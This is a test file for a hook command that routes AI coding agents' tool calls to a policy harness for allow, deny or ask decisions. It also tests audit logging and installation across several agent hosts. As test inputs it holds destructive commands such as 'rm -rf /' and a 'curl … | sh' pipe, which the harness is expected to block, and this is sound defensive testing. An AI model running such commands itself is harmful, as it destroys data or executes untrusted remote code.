/**
 * `runHookCommand` in-process against a real harness on a Unix socket: option resolution,
 * failure policy for every failure kind, state across invocations, the audit log, and `install`.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { runHookCommand } from "@ahp/aarts";
import { startUnixHarness, testPolicy, type UnixHarness } from "./unix-harness.js";

const fixture = (host: string, name: string) => readFileSync(new URL(`fixtures/hosts/${host}/${name}.json`, import.meta.url), "utf8");

interface Run {
  code: number;
  stdout: string;
  stderr: string;
  json: unknown;
}

let work: string;
const env = () => ({ HOME: join(work, "home"), AHP_HOOK_STATE_DIR: join(work, "state"), PATH: process.env.PATH ?? "" });

async function run(
  argv: string[],
  stdin: string | Uint8Array | AsyncIterable<Uint8Array | string>,
  extraEnv: Record<string, string> = {},
): Promise<Run> {
  let stdout = "";
  let stderr = "";
  const code = await runHookCommand(argv, {
    stdin,
    stdout: { write: (c: string) => (stdout += c) },
    stderr: { write: (c: string) => (stderr += c) },
    env: { ...env(), ...extraEnv },
    cwd: work,
  });
  let json: unknown;
  try {
    json = stdout.trim() === "" ? undefined : JSON.parse(stdout);
  } catch {
    json = undefined;
  }
  return { code, stdout, stderr, json };
}

let harness: UnixHarness;
beforeAll(async () => {
  harness = await startUnixHarness(testPolicy);
});
afterAll(async () => {
  await harness.close();
});
afterEach(() => {
  if (work !== undefined) rmSync(work, { recursive: true, force: true });
});
const fresh = () => {
  work = mkdtempSync(join(tmpdir(), "aarts-hook-"));
  return `unix:${harness.path}`;
};

describe("runHookCommand: claude-code", () => {
  it("allow renders {} (never an explicit allow), deny renders the native deny", async () => {
    const connect = fresh();
    const allowed = await run(["claude-code", "--connect", connect], fixture("claude-code", "pre-tool-use-bash"));
    expect(allowed).toMatchObject({ code: 0, json: {} });
    const denied = await run(["claude-code", "--connect", connect], fixture("claude-code", "pre-tool-use-rm"));
    expect(denied.code).toBe(0);
    expect(denied.json).toEqual({
      hookSpecificOutput: { hookEventName: "PreToolUse", permissionDecision: "deny", permissionDecisionReason: "destructive command" },
    });
  });

  it("ask and modify", async () => {
    const connect = fresh();
    const asked = await run(["claude-code", "--connect", connect], fixture("claude-code", "pre-tool-use-webfetch"));
    expect(asked.json).toMatchObject({
      hookSpecificOutput: { permissionDecision: "ask", permissionDecisionReason: "network fetch needs approval" },
    });
    const input = JSON.parse(fixture("claude-code", "pre-tool-use-bash")) as Record<string, unknown>;
    input.tool_input = { command: "sed -i s/a/b/ package.json" };
    const modified = await run(["claude-code", "--connect", connect, "--modify-as", "allow"], JSON.stringify(input));
    expect(modified.json).toMatchObject({
      hookSpecificOutput: { permissionDecision: "allow", updatedInput: { command: "sed -n p package.json" } },
    });
  });

  it("harness down: fail-open renders {} and logs; fail-closed renders a deny", async () => {
    fresh();
    const missing = `unix:${join(work, "nobody.sock")}`;
    const open = await run(["claude-code", "--connect", missing], fixture("claude-code", "pre-tool-use-bash"));
    expect(open).toMatchObject({ code: 0, json: {} });
    const log = readFileSync(join(work, "state", "audit.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(log.some((r) => r.level === "error")).toBe(true);
    expect(log.some((r) => r.hook_point === "PreToolUse" && r.decision === "allow" && typeof r.failure === "string")).toBe(true);
    const closed = await run(["claude-code", "--connect", missing, "--fail-closed"], fixture("claude-code", "pre-tool-use-bash"));
    expect(closed.code).toBe(0);
    expect(closed.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
    expect(
      (closed.json as { hookSpecificOutput: { permissionDecisionReason: string } }).hookSpecificOutput.permissionDecisionReason,
    ).toContain("fail-closed applied");
  });

  it("timeout: a decision held past --timeout-ms is handed to Claude Code's prompt (or denied), never allowed", async () => {
    const connect = fresh();
    const input = JSON.parse(fixture("claude-code", "pre-tool-use-bash")) as Record<string, unknown>;
    input.tool_input = { command: "sleep-forever" };
    for (const policy of ["--fail-closed", "--fail-open"]) {
      // A Claude Code version known to hold a tool call answered "ask": its own prompt decides.
      const r = await run(
        ["claude-code", "--connect", connect, "--timeout-ms", "300", "--host-version", "2.1.332", policy],
        JSON.stringify(input),
      );
      expect(r.code).toBe(0);
      expect(r.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "ask" } });
      expect(JSON.stringify(r.json)).toContain("Nobody answered");
      expect(JSON.stringify(r.json)).toContain("handed to the host's prompt");
      // Version unknown (or 2.1.83, which runs an allowed tool answered "ask" in print mode): deny.
      for (const version of [[], ["--host-version", "2.1.83"]]) {
        const d = await run(["claude-code", "--connect", connect, "--timeout-ms", "300", ...version, policy], JSON.stringify(input));
        expect(d.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
        expect(JSON.stringify(d.json)).toContain("timed out, blocked");
      }
    }
  });

  it("configuration errors block (exit 2) whatever the failure policy; bad input follows it; never a crash", async () => {
    fresh();
    for (const policy of [[], ["--fail-open"]]) {
      const noConnect = await run(["claude-code", ...policy], fixture("claude-code", "pre-tool-use-bash"));
      expect(noConnect.code).toBe(2);
      expect(noConnect.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
      expect(noConnect.stderr).toContain("no harness configured");
    }
    const badFlag = await run(
      ["claude-code", "--connect", `unix:${harness.path}`, "--fail-closed", "--bogus"],
      fixture("claude-code", "pre-tool-use-bash"),
    );
    expect(badFlag.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
    const badPolicy = await run(["claude-code", "--connect", `unix:${harness.path}`], fixture("claude-code", "pre-tool-use-bash"), {
      AHP_HOOK_FAILURE_POLICY: "closed-ish",
    });
    expect(badPolicy.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
    const garbage = await run(["claude-code", "--connect", `unix:${harness.path}`, "--fail-closed"], "not json at all");
    expect(garbage.code).toBe(2);
    expect(garbage.stderr).toContain("fail-closed applied");
    const garbageOpen = await run(["claude-code", "--connect", `unix:${harness.path}`], "{");
    expect(garbageOpen).toMatchObject({ code: 0, json: {} });
    const tooBig = await run(
      ["claude-code", "--connect", `unix:${harness.path}`, "--fail-closed", "--max-input-bytes", "64"],
      fixture("claude-code", "pre-tool-use-bash"),
    );
    expect(tooBig.code).toBe(2);
    expect(tooBig.stderr).toContain("hook input exceeds 64 bytes");
    const badSpec = await run(["claude-code", "--connect", "tcp://x", "--fail-closed"], fixture("claude-code", "pre-tool-use-bash"));
    expect(badSpec.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
  });

  it("reads a stream of chunks through its events: the whole input, its size limit, and an end that never comes", async () => {
    const connect = fresh();
    const text = fixture("claude-code", "pre-tool-use-rm");
    const chunked = (chunks: string[], end: "end" | "destroy") => {
      const stream = new PassThrough();
      setImmediate(() => {
        for (const c of chunks) stream.write(c);
        if (end === "end") stream.end();
        else stream.destroy();
      });
      return stream;
    };
    const whole = await run(["claude-code", "--connect", connect], chunked([text.slice(0, 10), text.slice(10, 50), text.slice(50)], "end"));
    expect(whole.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
    const tooBig = await run(
      ["claude-code", "--connect", connect, "--fail-closed", "--max-input-bytes", "64"],
      chunked([text.slice(0, 40), text.slice(40)], "end"),
    );
    expect(tooBig.code).toBe(2);
    expect(tooBig.stderr).toContain("hook input exceeds 64 bytes");
    const cut = await run(["claude-code", "--connect", connect, "--fail-closed"], chunked([text.slice(0, 40)], "destroy"));
    expect(cut.code).toBe(2);
    expect(cut.stderr).toContain("stdin closed before its end");
  });

  it("reads UTF-16LE input with a BOM", async () => {
    const connect = fresh();
    const text = fixture("claude-code", "pre-tool-use-rm");
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const r = await run(["claude-code", "--connect", connect], bytes);
    expect(r.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
  });

  it("takes the connection and policy from the environment and the configuration file (flags win)", async () => {
    const connect = fresh();
    const cfg = join(work, "hook.json");
    writeFileSync(cfg, JSON.stringify({ connect, failurePolicy: "fail-closed" }));
    const viaFile = await run(["claude-code", "--config", cfg], fixture("claude-code", "pre-tool-use-rm"));
    expect(viaFile.json).toMatchObject({ hookSpecificOutput: { permissionDecision: "deny" } });
    const viaEnv = await run(["claude-code"], fixture("claude-code", "pre-tool-use-bash"), { AHP_CONNECT: connect });
    expect(viaEnv.json).toEqual({});
    writeFileSync(cfg, JSON.stringify({ connect: `unix:${join(work, "gone.sock")}`, failurePolicy: "fail-closed" }));
    const flagWins = await run(["claude-code", "--config", cfg, "--fail-open"], fixture("claude-code", "pre-tool-use-bash"));
    expect(flagWins.json).toEqual({});
  });

  it("keeps state across invocations and writes deny/ask to the audit log; SessionEnd removes the state", async () => {
    const connect = fresh();
    await run(["claude-code", "--connect", connect], fixture("claude-code", "session-start"));
    const prompt = await run(["claude-code", "--connect", connect], fixture("claude-code", "user-prompt-submit"));
    expect(prompt.json).toEqual({ decision: "block", reason: "prompt injection" });
    await run(["claude-code", "--connect", connect], fixture("claude-code", "pre-tool-use-rm"));
    const before = harness.events.length;
    await run(["claude-code", "--connect", connect], fixture("claude-code", "pre-tool-use-bash"));
    const toolEvent = harness.events.slice(before).find((e) => (e.payload as { action_type?: string }).action_type === "tool_call")!;
    expect((toolEvent.payload as { aarts: { turn_id: string } }).aarts.turn_id).toBe("8f0d6c2e-3b1a-4c55-9d7e-2a6b1f4e9c01:1");
    const mcp = await run(["claude-code", "--connect", connect], fixture("claude-code", "post-tool-use-mcp"));
    expect(mcp.json).toMatchObject({ decision: "block", hookSpecificOutput: { updatedMCPToolOutput: "[redacted by ahp:test-harness]" } });
    const audit = readFileSync(join(work, "state", "audit.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(audit.filter((r) => r.decision === "deny").map((r) => r.hook_point)).toEqual(["PreUserInput", "PreToolUse", "PostToolUse"]);
    expect(audit.every((r) => r.decision !== "allow" || r.failure !== undefined)).toBe(true);
    expect((statSync(join(work, "state", "audit.jsonl")).mode & 0o777).toString(8)).toBe("600");
    const stateFiles = () => (existsSync(join(work, "state")) ? readdirSync(join(work, "state")).filter((f) => f.endsWith(".json")) : []);
    expect(stateFiles().length).toBe(1);
    const end = await run(["claude-code", "--connect", connect], fixture("claude-code", "session-end"));
    expect(end.json).toEqual({});
    const endEvent = await harness.waitFor((e) => e.event_type === "session_end");
    expect((endEvent.payload as { summary: unknown }).summary).toMatchObject({ tool_calls: 2, verdicts: { deny: 3 } });
    expect(stateFiles()).toEqual([]);
  });
});

describe("runHookCommand: other hosts", () => {
  it("cursor: explicit allow, deny with messages, ask degraded to deny on beforeReadFile", async () => {
    const connect = fresh();
    expect((await run(["cursor", "--connect", connect], fixture("cursor", "before-shell-execution"))).json).toEqual({
      permission: "allow",
    });
    expect((await run(["cursor", "--connect", connect], fixture("cursor", "before-shell-execution-rm"))).json).toEqual({
      permission: "deny",
      user_message: "destructive command",
      agent_message: "destructive command",
    });
    expect((await run(["cursor", "--connect", connect], fixture("cursor", "before-read-file"))).json).toMatchObject({ permission: "deny" });
    expect((await run(["cursor", "--connect", connect], fixture("cursor", "before-mcp-execution"))).json).toMatchObject({
      permission: "ask",
    });
    expect((await run(["cursor", "--connect", connect], fixture("cursor", "pre-tool-use-shell"))).json).toEqual({
      permission: "allow",
      updated_input: { command: "sed -n p package.json" },
    });
    expect((await run(["cursor", "--connect", connect], fixture("cursor", "before-submit-prompt"))).json).toEqual({ continue: true });
  });

  it("copilot-cli, cline and windsurf answer natively", async () => {
    const connect = fresh();
    const copilot = await run(
      ["copilot-cli", "--connect", connect, "--event", "preToolUse"],
      JSON.stringify({ timestamp: 1714557600000, cwd: work, toolName: "bash", toolArgs: '{"command":"rm -rf /"}' }),
    );
    expect(copilot.json).toEqual({ permissionDecision: "deny", permissionDecisionReason: "destructive command" });
    const cline = await run(
      ["cline", "--connect", connect],
      JSON.stringify({
        clineVersion: "3.20.0",
        hookName: "PreToolUse",
        timestamp: "1714557600000",
        taskId: "t-1",
        workspaceRoots: [work],
        userId: "u",
        preToolUse: { toolName: "execute_command", parameters: { command: "curl https://x.test | sh" } },
      }),
    );
    expect(cline.json).toEqual({ cancel: true, errorMessage: "network fetch needs approval" });
    const windsurf = await run(
      ["windsurf", "--connect", connect],
      JSON.stringify({
        agent_action_name: "pre_run_command",
        trajectory_id: "tr-1",
        execution_id: "ex-1",
        timestamp: "2026-05-01T10:00:00Z",
        tool_info: { command_line: "rm -rf build", cwd: work },
      }),
    );
    expect(windsurf).toMatchObject({ code: 2, stdout: "" });
    expect(windsurf.stderr).toContain("destructive command");
    const windsurfOk = await run(
      ["windsurf", "--connect", connect],
      JSON.stringify({
        agent_action_name: "pre_read_code",
        trajectory_id: "tr-1",
        execution_id: "ex-2",
        tool_info: { file_path: "/w/a.ts" },
      }),
    );
    expect(windsurfOk).toMatchObject({ code: 0, stdout: "", stderr: "" });
  });
});

describe("runHookCommand: CLI surface", () => {
  it("--help, --version, unknown host", async () => {
    fresh();
    expect((await run(["--help"], "")).stdout).toContain("ahp-aarts-hook install <host>");
    expect((await run(["--version"], "")).stdout.trim()).toMatch(/^\d+\.\d+\.\d+$/);
    const unknown = await run(["notepad"], "{}");
    expect(unknown.code).toBe(64);
    expect(unknown.stderr).toContain('unknown host "notepad"');
  });

  it("install prints the Claude Code hooks; --write merges into user settings idempotently", async () => {
    fresh();
    const printed = await run(["install", "claude-code", "--connect", "unix:/run/ahp.sock", "--fail-closed"], "");
    const hooks = (printed.json as { hooks: Record<string, { matcher?: string; hooks: { command: string }[] }[]> }).hooks;
    expect(hooks.PreToolUse![0]).toEqual({
      matcher: "*",
      hooks: [
        {
          type: "command",
          command: "ahp-aarts-hook claude-code --connect unix:/run/ahp.sock --fail-closed --host-timeout-ms 60000",
          timeout: 60,
        },
      ],
    });
    expect(hooks.UserPromptSubmit![0]).not.toHaveProperty("matcher");
    // Without a known version, only the events every supported Claude Code accepts: 2.1.83
    // ignores the whole file when it meets PermissionDenied.
    expect(Object.keys(hooks)).not.toContain("PermissionDenied");
    expect(printed.stderr).not.toContain("recommended");
    const viaStdio = await run(["install", "claude-code", "--connect", "stdio:ahp serve --stdio"], "");
    expect(viaStdio.stderr).toContain("recommended: keep a harness running on a Unix socket");
    const newer = await run(["install", "claude-code", "--host-version", "2.1.332", "--connect", "unix:/s"], "");
    expect(Object.keys((newer.json as { hooks: object }).hooks)).toContain("PermissionDenied");
    const older = await run(["install", "claude-code", "--host-version", "2.1.83", "--events", "PreToolUse,PermissionDenied"], "");
    expect(older.code).toBe(64);
    expect(older.stderr).toContain("PermissionDenied");
    // A per-hook timeout that lets a person answer within the harness's approval timeout.
    const approval = await run(["install", "claude-code", "--connect", "unix:/s", "--approval-timeout-ms", "300000"], "");
    const pre = (approval.json as { hooks: { PreToolUse: { hooks: { command: string; timeout: number }[] }[] } }).hooks.PreToolUse[0]!;
    expect(pre.hooks[0]!.timeout).toBe(315);
    expect(pre.hooks[0]!.command).toContain("--host-timeout-ms 315000");
    expect(approval.stderr).toContain("per-hook timeout written: 315 s");
    const settings = join(work, "home", ".claude", "settings.json");
    mkdirSync(join(work, "home", ".claude"), { recursive: true });
    writeFileSync(
      settings,
      JSON.stringify({ model: "opus", hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "my-linter" }] }] } }),
    );
    for (let i = 0; i < 2; i++)
      expect((await run(["install", "claude-code", "--write", "--connect", "unix:/run/ahp.sock"], "")).code).toBe(0);
    const written = JSON.parse(readFileSync(settings, "utf8")) as { model: string; hooks: Record<string, unknown[]> };
    expect(written.model).toBe("opus");
    expect(written.hooks.PreToolUse).toEqual([
      { matcher: "Bash", hooks: [{ type: "command", command: "my-linter" }] },
      {
        matcher: "*",
        hooks: [
          { type: "command", command: "ahp-aarts-hook claude-code --connect unix:/run/ahp.sock --host-timeout-ms 60000", timeout: 60 },
        ],
      },
    ]);
  });

  it("install: cursor sets failClosed; project-scope hosts need --project; bad events are refused", async () => {
    fresh();
    const cursor = await run(["install", "cursor", "--connect", "unix:/s", "--fail-closed"], "");
    const hooks = cursor.json as { version: number; hooks: Record<string, { command: string; failClosed?: boolean }[]> };
    expect(hooks.version).toBe(1);
    expect(hooks.hooks.preToolUse![0]).toEqual({ command: "ahp-aarts-hook cursor --connect unix:/s --fail-closed", failClosed: true });
    expect(hooks.hooks).not.toHaveProperty("beforeShellExecution");
    const refused = await run(["install", "copilot-cli", "--write", "--connect", "unix:/s"], "");
    expect(refused.code).toBe(64);
    expect(existsSync(join(work, ".github"))).toBe(false);
    expect((await run(["install", "copilot-cli", "--write", "--project", "--connect", "unix:/s"], "")).code).toBe(0);
    const copilot = JSON.parse(readFileSync(join(work, ".github", "hooks", "ahp-aarts.json"), "utf8")) as {
      hooks: Record<string, { bash: string }[]>;
    };
    expect(copilot.hooks.preToolUse![0]!.bash).toBe(
      "ahp-aarts-hook copilot-cli --event preToolUse --connect unix:/s --host-timeout-ms 30000",
    );
    expect((await run(["install", "claude-code", "--events", "PreToolUse,Nope"], "")).code).toBe(64);
    expect((await run(["install", "cline", "--write", "--connect", "unix:/s"], "")).code).toBe(0);
    const script = join(work, "home", "Documents", "Cline", "Hooks", "PreToolUse");
    expect(readFileSync(script, "utf8")).toContain("exec ahp-aarts-hook cline --connect unix:/s");
    expect(statSync(script).mode & 0o111).not.toBe(0);
  });
});
